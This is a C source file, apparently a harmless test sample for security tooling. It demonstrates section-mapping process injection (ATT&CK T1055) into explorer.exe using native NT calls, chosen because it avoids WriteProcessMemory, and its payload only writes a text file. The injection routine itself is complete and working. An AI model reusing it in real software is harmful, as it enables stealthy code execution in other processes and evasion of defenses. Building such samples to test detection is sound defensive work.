/* section_map_injection — injection through a shared section (ATT&CK T1055, "mapping
 * injection"): create a section with NtCreateSection, map it read-write into this process and
 * read-execute into explorer.exe with NtMapViewOfSection, copy the code through the local view
 * (no WriteProcessMemory at all), and start it in the target with NtCreateThreadEx. Loaders use
 * it because the usual VirtualAllocEx/WriteProcessMemory pair never appears.
 *
 * Harmless: the code (common/inject.h) only writes %TEMP%\mamori-sample\section_map.txt from
 * inside explorer.exe (and calls OutputDebugStringA). */
#include "inject.h"

typedef LONG(NTAPI *NtCreateSectionFn)(PHANDLE, ACCESS_MASK, PVOID, PLARGE_INTEGER, ULONG, ULONG,
                                       HANDLE);
typedef LONG(NTAPI *NtMapViewOfSectionFn)(HANDLE, HANDLE, PVOID *, ULONG_PTR, SIZE_T,
                                          PLARGE_INTEGER, PSIZE_T, DWORD, ULONG, ULONG);
typedef LONG(NTAPI *NtUnmapViewOfSectionFn)(HANDLE, PVOID);
typedef LONG(NTAPI *NtCreateThreadExFn)(PHANDLE, ACCESS_MASK, PVOID, HANDLE, PVOID, PVOID, ULONG,
                                        SIZE_T, SIZE_T, SIZE_T, PVOID);
#define VIEW_UNMAP 2 /* SECTION_INHERIT ViewUnmap */

int main(void) {
  HMODULE ntdll = GetModuleHandleA("ntdll.dll");
  NtCreateSectionFn create_section = (void *)GetProcAddress(ntdll, "NtCreateSection");
  NtMapViewOfSectionFn map_view = (void *)GetProcAddress(ntdll, "NtMapViewOfSection");
  NtUnmapViewOfSectionFn unmap_view = (void *)GetProcAddress(ntdll, "NtUnmapViewOfSection");
  NtCreateThreadExFn create_thread = (void *)GetProcAddress(ntdll, "NtCreateThreadEx");
  if (!create_section || !map_view || !unmap_view || !create_thread) return 1;

  DWORD pid = inject_find_process("explorer.exe");
  if (!pid) {
    sample_log("section_map_injection: explorer.exe not found");
    return 2;
  }
  HANDLE process = OpenProcess(PROCESS_CREATE_THREAD | PROCESS_QUERY_INFORMATION |
                                   PROCESS_VM_OPERATION, FALSE, pid);
  if (!process) return 3;

  /* code first, then the parameter, in one section */
  DWORD code_size, entry_offset;
  unsigned char *code = inject_code(&code_size, &entry_offset);
  InjectParam param;
  if (!code || !inject_make_param(&param, "section_map.txt",
                                  "section_map_injection: hello from a mapped section\r\n"))
    return 4;
  DWORD param_offset = (code_size + 15) & ~15u;
  LARGE_INTEGER max_size;
  max_size.QuadPart = param_offset + sizeof param;

  HANDLE section = NULL;
  if (create_section(&section, SECTION_ALL_ACCESS, NULL, &max_size, PAGE_EXECUTE_READWRITE,
                     SEC_COMMIT, NULL) != 0)
    return 5;
  PVOID local = NULL, remote = NULL;
  SIZE_T local_size = 0, remote_size = 0;
  if (map_view(section, GetCurrentProcess(), &local, 0, 0, NULL, &local_size, VIEW_UNMAP, 0,
               PAGE_READWRITE) != 0 ||
      map_view(section, process, &remote, 0, 0, NULL, &remote_size, VIEW_UNMAP, 0,
               PAGE_EXECUTE_READ) != 0)
    return 6;

  /* writing the local view writes the target's view too */
  pe_copy(local, code, code_size);
  pe_copy((unsigned char *)local + param_offset, &param, sizeof param);

  HANDLE thread = NULL;
  LONG status = create_thread(&thread, THREAD_ALL_ACCESS, NULL, process,
                              (unsigned char *)remote + entry_offset,
                              (unsigned char *)remote + param_offset, 0, 0, 0, 0, NULL);
  if (status == 0 && thread) {
    WaitForSingleObject(thread, 10000);
    CloseHandle(thread);
  }
  unmap_view(GetCurrentProcess(), local);
  CloseHandle(section);
  CloseHandle(process);
  return status == 0 ? 0 : 7;
}
